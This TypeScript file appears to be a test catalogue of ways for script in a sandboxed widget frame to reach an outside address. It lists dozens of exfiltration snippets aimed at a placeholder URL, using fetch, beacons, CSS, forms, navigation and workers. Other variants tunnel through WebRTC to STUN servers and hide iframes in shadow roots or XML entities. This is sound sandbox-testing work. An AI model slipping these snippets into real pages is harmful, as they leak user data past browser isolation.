/** An attack that tries to send something out of the frame. */
export interface WayOut {
  readonly name: string;
  /** Code; `URL` is an address that notes each connection to it, `STUN` a list of STUN servers that note what they get. */
  readonly code: string;
  /** Its control runs in a page of its own, since it would carry away the page that runs the tests or needs a whole page. */
  readonly alone?: boolean;
}

const append = (tag: string, properties: string, place = "body"): string =>
  `document.${place}.append(Object.assign(document.createElement(${JSON.stringify(tag)}), ${properties}));`;

const style = (css: string): string => append("style", `{ textContent: ${css} }`, "head");

const form = (attributes: string, act: string): string =>
  `widget.root.innerHTML = \`<form action="\${URL}" ${attributes}><button formaction="\${URL}">x</button></form>\`; widget.root.querySelector("form").${act};`;

const rtc = (realm: string): string =>
  `const pc = new ${realm}.RTCPeerConnection({ iceServers: [{ urls: STUN }] }); pc.createDataChannel("x"); pc.createOffer().then((offer) => pc.setLocalDescription(offer));`;

/** Markup of a nested frame whose own script speaks WebRTC. */
const nested = "`<script>" + rtc("window").replaceAll("STUN", "${JSON.stringify(STUN)}") + "<\\/script>`";

// An attribute value that holds the markup.
const attribute = `${nested}.replaceAll("&", "&amp;").replaceAll('"', "&quot;")`;

/** Address of the page of a player that waits at `URL`; the other one is answered as where browsers do not tell who asks. */
const player =
  "const player = `/player?address=${encodeURIComponent(URL)}`; const untold = player + '&untold';";

/** Ways by which a frame takes itself to the page of a player, to be shown the player there. */
const byPlayerPage: readonly WayOut[] = [
  { name: "location of a player page", code: `${player} location = player;` },
  { name: "location of a player page that is not told who asks", code: `${player} location = untold;` },
  { name: "location.replace with a player page", code: `${player} location.replace(player);` },
  {
    name: "location.replace with a player page that is not told who asks",
    code: `${player} location.replace(untold);`,
  },
  {
    name: "clicked link to a player page",
    code: `${player} const a = Object.assign(document.createElement("a"), { href: player }); document.body.append(a); a.click();`,
  },
  {
    name: "clicked link to a player page that is not told who asks",
    code: `${player} const a = Object.assign(document.createElement("a"), { href: untold }); document.body.append(a); a.click();`,
  },
  {
    name: "player page in a nested frame",
    code: `${player} document.body.append(Object.assign(document.createElement("iframe"), { src: untold }));`,
  },
];

/** Ways out over HTTP. */
export const httpWaysOut: readonly WayOut[] = [
  { name: "fetch", code: "await fetch(URL);" },
  { name: "fetch that outlives the page", code: "await fetch(URL, { keepalive: true, mode: 'no-cors' });" },
  { name: "XMLHttpRequest", code: "const x = new XMLHttpRequest(); x.open('GET', URL); x.send();" },
  { name: "sendBeacon", code: "navigator.sendBeacon(URL, 'secret');" },
  { name: "WebSocket", code: "new WebSocket(URL.replace('http', 'ws'));" },
  { name: "EventSource", code: "new EventSource(URL);" },
  { name: "image", code: "new Image().src = URL;" },
  {
    name: "picture source",
    code: "widget.root.innerHTML = `<picture><source srcset='${URL}'><img src=''></picture>`;",
  },
  { name: "SVG image", code: "widget.root.innerHTML = `<svg><image href='${URL}'/></svg>`;" },
  { name: "video", code: append("video", "{ src: URL, preload: 'auto' }") },
  { name: "video poster", code: append("video", "{ poster: URL }") },
  { name: "audio", code: append("audio", "{ src: URL, preload: 'auto' }") },
  { name: "background in CSS", code: style("`body { background: url(${URL}) }`") },
  {
    name: "attribute selector in CSS",
    code: style("`body:not([x]) { list-style: url(${URL}); display: list-item }`"),
  },
  { name: "@import in CSS", code: style("`@import '${URL}';`") },
  {
    name: "font in CSS",
    code:
      style("`@font-face { font-family: f; src: url(${URL}) } body { font-family: f }`") +
      "document.body.append('text');",
  },
  { name: "font of a script", code: "await new FontFace('f', `url(${URL})`).load();" },
  {
    name: "style sheet of an instruction",
    code: `const instruction = document.createProcessingInstruction("xml-stylesheet", \`type="text/css" href="\${URL}"\`); document.insertBefore(instruction, document.documentElement);`,
  },
  { name: "style sheet", code: append("link", "{ rel: 'stylesheet', href: URL }", "head") },
  { name: "prefetch", code: append("link", "{ rel: 'prefetch', href: URL }", "head") },
  { name: "preload", code: append("link", "{ rel: 'preload', as: 'image', href: URL }", "head") },
  ...["fetch", "font", "script", "style", "track"].map((as) => ({
    name: `preload of a ${as}`,
    code: append("link", `{ rel: "preload", as: "${as}", crossOrigin: "anonymous", href: URL }`, "head"),
  })),
  { name: "module preload", code: append("link", "{ rel: 'modulepreload', href: URL }", "head") },
  { name: "icon", code: append("link", "{ rel: 'icon', href: URL }", "head"), alone: true },
  { name: "manifest", code: append("link", "{ rel: 'manifest', href: URL }", "head"), alone: true },
  { name: "script", code: append("script", "{ src: URL }") },
  { name: "import()", code: "await import(URL);" },
  { name: "import() of JSON", code: "await import(URL, { with: { type: 'json' } });" },
  { name: "worklet", code: "await new AudioContext().audioWorklet.addModule(URL);" },
  {
    name: "artwork",
    code: "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: URL, sizes: '96x96' }] });",
  },
  { name: "worker", code: "new Worker(self.URL.createObjectURL(new Blob([`fetch('${URL}')`])));" },
  {
    name: "shared worker",
    code: "new SharedWorker('/attack/worker.js?' + URL);",
    alone: true,
  },
  {
    name: "form",
    code: "widget.root.innerHTML = `<form action='${URL}' target='x'><iframe name='x'></iframe></form>`; widget.root.querySelector('form').submit();",
  },
  { name: "form with POST", code: form("method=post", "submit()") },
  { name: "form that is requested", code: form("", "requestSubmit()") },
  { name: "form of a button", code: form("", "querySelector('button').click()") },
  { name: "form into a new window", code: form("target=_blank", "submit()"), alone: true },
  { name: "form into the top window", code: form("target=_top", "submit()"), alone: true },
  {
    name: "form with a javascript: address",
    code: "widget.root.innerHTML = `<form action=\"javascript:location='${URL}'\"></form>`; widget.root.querySelector('form').submit();",
  },
  { name: "nested frame", code: append("iframe", "{ src: URL }") },
  {
    name: "nested frame with its own document",
    code: append("iframe", "{ srcdoc: `<img src='${URL}'><script>fetch('${URL}')<\\/script>` }"),
  },
  { name: "nested data: frame", code: append("iframe", "{ src: `data:text/html,<img src='${URL}'>` }") },
  {
    name: "nested blob: frame",
    code: append(
      "iframe",
      "{ src: self.URL.createObjectURL(new Blob([`<img src='${URL}'>`], { type: 'text/html' })) }",
    ),
  },
  { name: "object", code: append("object", "{ data: URL }") },
  { name: "embed", code: append("embed", "{ src: URL }") },
  {
    name: "base address",
    code:
      append("base", "{ href: URL + '/' }", "head") +
      "document.body.append(Object.assign(new Image(), { src: 'relative.png' }));",
  },
  {
    name: "meta refresh",
    code: "document.head.append(document.createRange().createContextualFragment(`<meta http-equiv='refresh' content='0;url=${URL}'>`));",
  },
  ...byPlayerPage,
  { name: "location", code: "location = URL;" },
  { name: "location.replace", code: "location.replace(URL);" },
  {
    name: "link that is clicked",
    code: "const a = Object.assign(document.createElement('a'), { href: URL }); document.body.append(a); a.click();",
  },
  {
    name: "ping of a link",
    code: "const a = Object.assign(document.createElement('a'), { href: '#x', ping: URL }); document.body.append(a); a.click();",
  },
  { name: "popup", code: "open(URL);", alone: true },
  {
    name: "link to a new window",
    code: "const a = Object.assign(document.createElement('a'), { href: URL, target: '_blank' }); document.body.append(a); a.click();",
    alone: true,
  },
  {
    name: "link to the top window",
    code: "const a = Object.assign(document.createElement('a'), { href: URL, target: '_top' }); document.body.append(a); a.click();",
    alone: true,
  },
  { name: "location of the top window", code: "top.location = URL;", alone: true },
  {
    name: "download",
    code: "const a = Object.assign(document.createElement('a'), { href: URL, download: 'x' }); document.body.append(a); a.click();",
    alone: true,
  },
  {
    name: "service worker",
    code: "await navigator.serviceWorker.register('/attack/worker.js?' + URL);",
    alone: true,
  },
];

/** Ways out over UDP, past the policy, which does not know WebRTC. */
export const udpWaysOut: readonly WayOut[] = [
  { name: "WebRTC", code: rtc("window") },
  {
    name: "WebRTC of a nested empty frame",
    code: "const f = document.createElement('iframe'); document.body.append(f);" + rtc("f.contentWindow"),
  },
  { name: "WebRTC of a nested document", code: append("iframe", `{ srcdoc: ${nested} }`) },
  {
    name: "WebRTC of a nested document, set as an attribute",
    code: `const f = document.createElement("iframe"); f.setAttribute("SrcDoc", ${nested}); document.body.append(f);`,
  },
  {
    name: "WebRTC of a nested document, as markup",
    code: `widget.root.innerHTML = \`<iframe srcdoc="\${${attribute}}"></iframe>\`;`,
  },
  {
    name: "WebRTC of a nested document, in a shadow root",
    code: `const d = document.createElement("div"); document.body.append(d); d.attachShadow({ mode: "closed" }).innerHTML = \`<iframe srcdoc="\${${attribute}}"></iframe>\`;`,
  },
  {
    name: "WebRTC of a nested document, as an attribute node",
    code: `const f = document.createElement("iframe"); const a = document.createAttribute("srcdoc"); a.value = ${nested}; f.setAttributeNode(a); document.body.append(f);`,
  },
  {
    name: "WebRTC of a nested document, written",
    code: `document.write(\`<iframe srcdoc="\${${attribute}}"></iframe>\`);`,
  },
  {
    name: "WebRTC of a nested document, hidden in an XML entity",
    code: `const hidden = [...${nested}].map((char) => "&#38;#" + char.charCodeAt(0) + ";").join(""); const xml = \`<!DOCTYPE x [<!ENTITY e "<iframe xmlns='http://www.w3.org/1999/xhtml' src&#100;oc='\${hidden}'/>">]><x>&e;</x>\`; const found = new DOMParser().parseFromString(xml, "application/xml"); document.body.append(document.importNode(found.querySelector("iframe"), true));`,
  },
];
